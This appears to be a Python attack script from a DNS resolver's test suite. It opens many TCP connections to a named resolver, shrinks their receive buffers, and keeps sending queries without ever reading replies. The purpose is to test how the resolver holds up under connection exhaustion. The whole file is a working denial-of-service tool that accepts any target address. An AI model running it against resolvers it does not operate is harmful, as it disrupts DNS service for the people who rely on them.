# SPDX-License-Identifier: Apache-2.0
"""Open TCP connections to a resolver, ask, and never read: `python -m tests.attacks.dns_deaf 10.0.0.1 100`."""

import argparse
import contextlib
import socket
import struct
import time

import dns.message


class Deaf:
    """So many connections, which ask for as long as the kernel takes questions."""

    def __init__(self, server: str, port: int, connections: int, *, source: str | None = None) -> None:
        wire = dns.message.make_query("all", "A").to_wire()
        self._question = struct.pack("!H", len(wire)) + wire
        self.sockets = []
        for _ in range(connections):
            try:
                sock = socket.create_connection((server, port), source_address=(source, 0) if source else None)
            except ConnectionError:  # one too many
                continue
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            sock.setblocking(False)
            self.sockets.append(sock)

    def ask(self) -> int:
        """Send questions until the kernel takes no more; return the number of connections that are still open."""
        alive = 0
        for sock in self.sockets:
            with contextlib.suppress(BlockingIOError):
                try:
                    for _ in range(64):
                        sock.sendall(self._question)
                except (ConnectionError, BrokenPipeError):
                    continue
            alive += 1
        return alive

    def close(self) -> None:
        """End all connections."""
        for sock in self.sockets:
            sock.close()


def main() -> None:
    """Ask once a second."""
    parser = argparse.ArgumentParser(prog="python -m tests.attacks.dns_deaf", description=__doc__)
    parser.add_argument("server", help="the resolver's address")
    parser.add_argument("connections", type=int, help="how many")
    parser.add_argument("--port", type=int, default=53, help="of TCP (default: %(default)s)")
    parser.add_argument("--seconds", type=int, default=60, help="how long (default: %(default)s)")
    given = parser.parse_args()
    deaf = Deaf(given.server, given.port, given.connections)
    for _ in range(given.seconds):
        print(deaf.ask(), "connections are open", flush=True)
        time.sleep(1)
    deaf.close()


if __name__ == "__main__":
    main()
